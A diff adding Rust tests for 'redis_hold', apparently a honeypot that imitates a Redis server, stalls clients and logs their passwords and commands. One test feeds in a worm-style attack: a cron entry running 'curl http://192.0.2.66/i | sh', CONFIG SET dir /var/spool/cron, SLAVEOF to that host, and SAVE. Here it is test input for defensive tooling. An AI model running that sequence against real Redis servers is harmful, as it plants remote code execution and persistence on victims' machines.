@@ -1,0 +1,175 @@
+//! `redis_hold`: what its clients say, what they hear, and when.
+
+use std::time::Duration;
+
+use tarpit_proto::persona::Persona;
+
+use crate::stage::{Stage, seed};
+
+fn connected() -> Stage {
+    let mut stage = Stage::new("redis_hold").open();
+    assert_eq!(stage.heard(), "");
+    stage.pass_secs(1);
+    stage
+}
+
+/// A command as clients send it.
+fn command(words: &[&str]) -> Vec<u8> {
+    let words = words.iter().map(|word| format!("${}\r\n{word}\r\n", word.len()));
+    let head = format!("*{}\r\n", words.len());
+    [head, words.collect()].concat().into_bytes()
+}
+
+#[test]
+fn a_ping_is_told_at_once_that_a_password_is_needed() {
+    for said in [&command(&["PING"])[..], b"PING\r\n", b"ping\n"] {
+        let mut stage = connected();
+        stage.says(said);
+        assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n");
+        stage.says(said);
+        assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n");
+        assert_eq!(stage.closed, None);
+    }
+}
+
+#[test]
+fn no_password_is_right_and_each_verdict_is_late_and_whole() {
+    let mut stage = connected();
+    stage.says(command(&["AUTH", "foobared"]));
+    stage.says(command(&["AUTH", "root", "secret"]));
+    stage.says(command(&["HELLO", "3", "AUTH", "u", "p"]));
+    stage.pass_secs(14);
+    assert_eq!(stage.heard(), "", "below the first moment");
+    let verdict = r"-WRONGPASS invalid username-password pair or user is disabled.\r\n";
+    for _ in 0..3 {
+        stage.pass(Duration::from_millis(18_200));
+        assert_eq!(stage.heard(), verdict);
+    }
+    stage.pass_secs(3_600);
+    assert_eq!(stage.heard(), "");
+    let learnt = [
+        "secret foobared, method password",
+        "user root, secret secret, method password",
+        "user u, secret p, method password",
+    ];
+    assert_eq!(stage.learnt, learnt);
+}
+
+#[test]
+fn info_shows_the_personas_version_at_once_and_never_ends() {
+    for (persona, version) in [
+        ("debian-12", "7.0.15"),
+        ("ip-camera", "2.8.17"),
+        ("ubuntu-22.04", "6.0.16"),
+        ("windows-server-2019", "3.0.504"),
+    ] {
+        let mut stage = Stage::new("redis_hold");
+        stage.profile.persona = Persona::named(persona, &seed()).expect("a persona");
+        let mut stage = stage.open();
+        stage.says(command(&["info"]));
+        let head = stage.heard();
+        let wanted = format!(r"$536870912\r\n# Server\r\nredis_version:{version}\r\n");
+        assert!(head.starts_with(&wanted), "{head}");
+        stage.pass_secs(30 * 86_400);
+        assert_eq!(stage.closed, None);
+        let sent = stage.bytes();
+        assert!((200_000..400_000).contains(&sent.len()), "{}", sent.len());
+        assert!(sent.iter().all(u8::is_ascii_lowercase));
+    }
+}
+
+#[test]
+fn every_other_command_gets_a_bulk_string_without_an_end_a_byte_at_a_time() {
+    for said in
+        [&command(&["GET", "k"])[..], &command(&["HELLO", "3"]), b"KEYS *\r\n", b"flushall\n"]
+    {
+        let mut stage = connected();
+        stage.says(said);
+        assert_eq!(stage.heard(), r"$536870912\r\n");
+        stage.pass_secs(60);
+        assert!((6..=8).contains(&stage.sent.len()), "{:?}", stage.moments());
+        assert!(stage.sent.iter().all(|(_, bytes)| bytes.len() == 1));
+    }
+}
+
+#[test]
+fn what_a_worm_would_set_is_told_and_values_are_secrets() {
+    let mut stage = connected();
+    let cron = "\n*/2 * * * * curl http://192.0.2.66/i | sh\n";
+    let said = [
+        command(&["SET", "backup1", cron]),
+        command(&["CONFIG", "SET", "dir", "/var/spool/cron"]),
+        command(&["SLAVEOF", "192.0.2.66", "6379"]),
+        command(&["CONFIG", "SET", "requirepass", "hunter2"]),
+        command(&["SAVE"]),
+    ];
+    stage.says(said.concat()).pass_secs(60);
+    assert_eq!(
+        stage.learnt,
+        [
+            format!("secret {}, command SET backup1", cron.as_bytes().escape_ascii()),
+            "command CONFIG SET dir /var/spool/cron".to_owned(),
+            "command SLAVEOF 192.0.2.66 6379".to_owned(),
+            "command CONFIG SET requirepass, secret hunter2".to_owned(),
+            "command SAVE".to_owned(),
+        ]
+    );
+}
+
+#[test]
+fn it_makes_no_difference_how_commands_are_cut() {
+    let said = [
+        command(&["SET", "k", &"v".repeat(5_000)]),
+        command(&["AUTH", &"p".repeat(700)]),
+        b"\r\nCONFIG GET *\r\n".to_vec(),
+        command(&["a", "b", "c", "d", "e", "f", "g"]),
+        command(&["SAVE"]),
+    ]
+    .concat();
+    let told = |cut: usize, hand_over: bool| {
+        let mut stage = connected();
+        for portion in said.chunks(cut) {
+            stage.says(portion).pass(Duration::from_millis(1));
+            if hand_over {
+                stage.hand_over();
+            }
+        }
+        (stage.learnt.clone(), stage.text())
+    };
+    let whole = told(900, false);
+    assert_eq!(whole.0.len(), 5, "{:?}", whole.0);
+    assert!(whole.0[0].contains("(of 5000)") && whole.0[1].contains("(of 700)"));
+    for cut in [1, 7, 100] {
+        assert_eq!(told(cut, false), whole, "{cut}");
+        assert_eq!(told(cut, true), whole, "{cut}, handed over");
+    }
+}
+
+#[test]
+fn a_client_that_breaks_the_protocol_is_told_so_and_held_in_silence() {
+    for said in ["*x\r\n", "*2\r\n%3\r\n", "*1\r\n$99999999999\r\n", "*9999999\r\n$1\r\n"] {
+        let mut stage = Stage::new("redis_hold").unvalidated().open();
+        stage.says(said).pass_secs(86_400);
+        stage.says(command(&["PING"])).pass_secs(86_400);
+        assert_eq!(stage.heard(), r"-ERR Protocol error: expected \'$\', got \' \'\r\n", "{said}");
+        assert_eq!(stage.closed, None);
+    }
+}
+
+#[test]
+fn so_many_commands_are_heard_and_no_more() {
+    let mut stage = connected();
+    for _ in 0..100 {
+        stage.says(b"FLUSHALL\r\n".repeat(20)).pass_secs(1);
+    }
+    assert_eq!(stage.learnt.len(), 128);
+    assert!(stage.save().len() < 200);
+}
+
+#[test]
+fn strangers_are_told_what_redis_tells_them() {
+    let mut stage = connected();
+    stage.says("GET / HTTP/1.0\r\n\r\n").pass_secs(86_400);
+    assert_eq!(stage.heard(), r"-ERR wrong number of arguments for \'get\' command\r\n");
+    assert_eq!(stage.closed, None);
+}
